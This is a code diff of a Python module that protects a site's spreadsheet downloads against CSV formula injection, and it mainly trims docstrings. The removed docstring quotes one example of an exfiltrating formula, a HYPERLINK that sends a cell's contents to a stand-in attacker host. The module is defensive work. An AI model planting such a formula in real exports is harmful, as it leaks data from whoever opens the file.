@@ -1,21 +1,8 @@
 """Spreadsheet files written safely: a text cell is always text, never a formula.
 
-Names reach the downloads from anyone (a roster file, an event's name), and a spreadsheet
-program runs a cell such as `=HYPERLINK("http://evil.example/?d="&A2,"Click")` as a formula
-when the file is opened. So, for every download of the site, CSV and XLSX alike:
-- a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single
-  quote in front (OWASP's advice for CSV injection), which spreadsheet programs read as "this
-  is text". So does one that starts with a look-alike of them: the start is read after NFKC
-  (full-width `＝ ＋ － ＠`, the small, superscript and subscript forms become the signs), and
-  the minus sign U+2212 counts as `-`. Numbers (negative ones too) are written as they are.
-- XLSX: each text cell is also written with its data type set to string (`t="inlineStr"`), so
-  a leading `=` is shown, not evaluated. The quote is still needed there: a cell re-edited in a
-  spreadsheet program, or the sheet saved as CSV, is read anew, and `=…` becomes a formula.
-
-A cell is a number when its value is an int, float or Decimal (not a bool); anything else is
-text (None is an empty cell). `SafeCSV` and `SafeXLSX` are the same writers as
-django-import-export formats (settings.EXPORT_FORMATS; clubs.resources.PlayerResource).
-"""
+A text cell starting like a formula (look-alikes after NFKC included) gets a leading quote, and
+XLSX text cells are typed as text; int, float and Decimal (not bool) are numbers, None empty.
+Design: docs/rankings.md#downloads"""
 
 from __future__ import annotations
 
@@ -43,17 +30,13 @@ def is_number(value: object) -> TypeGuard[int | float | Decimal]:
 
 
 def text_cell(text: str) -> str:
-    """`text` as a spreadsheet's text cell holds it: with a single quote in front if it starts
-    like a formula, look-alikes included (`"=1+2"` becomes `"'=1+2"`, `"-2"` becomes `"'-2"`,
-    `"＝1+2"` becomes `"'＝1+2"`), else unchanged."""
+    """`text` with a single quote in front if it starts like a formula, look-alikes included
+    (`"=1+2"` becomes `"'=1+2"`, `"-2"` becomes `"'-2"`), else unchanged."""
     return f"'{text}" if unicodedata.normalize("NFKC", text).startswith(FORMULA_STARTS) else text
 
 
 def csv_cell(value: object) -> object:
-    """`value` as a CSV cell: a number unchanged, None as "", text through `text_cell`.
-
-    `"=1+2"` becomes `"'=1+2"`, `"-2"` (text) becomes `"'-2"`, the number -2 stays -2.
-    """
+    """`value` as a CSV cell: a number unchanged, None as "", text through `text_cell`."""
     if value is None:
         return ""
     if is_number(value):
@@ -78,12 +61,8 @@ def csv_text(rows: Iterable[Row], *, delimiter: str = ",") -> str:
 def xlsx_bytes(rows: Iterable[Row], *, title: str) -> bytes:
     """The rows as an XLSX workbook of one sheet named `title` (cut to Excel's 31 characters).
 
-    The first row is the header (bold, kept in view when scrolling). Numbers are number cells,
-    dates date cells; every other value is a string cell whose type is set explicitly, so no
-    text is ever read as a formula, and which goes through `text_cell` as in the CSV (a formula
-    start quoted). Characters that XLSX cannot hold (control characters other than tab, line
-    feed and carriage return) are replaced by U+FFFD rather than failing the download.
-    """
+    The first row is the header. Numbers and dates are typed cells; other values are string cells
+    through `text_cell`; characters XLSX cannot hold are replaced by U+FFFD."""
     # Imported here: the settings import this module (EXPORT_FORMATS), and need no openpyxl.
     from openpyxl import Workbook
     from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
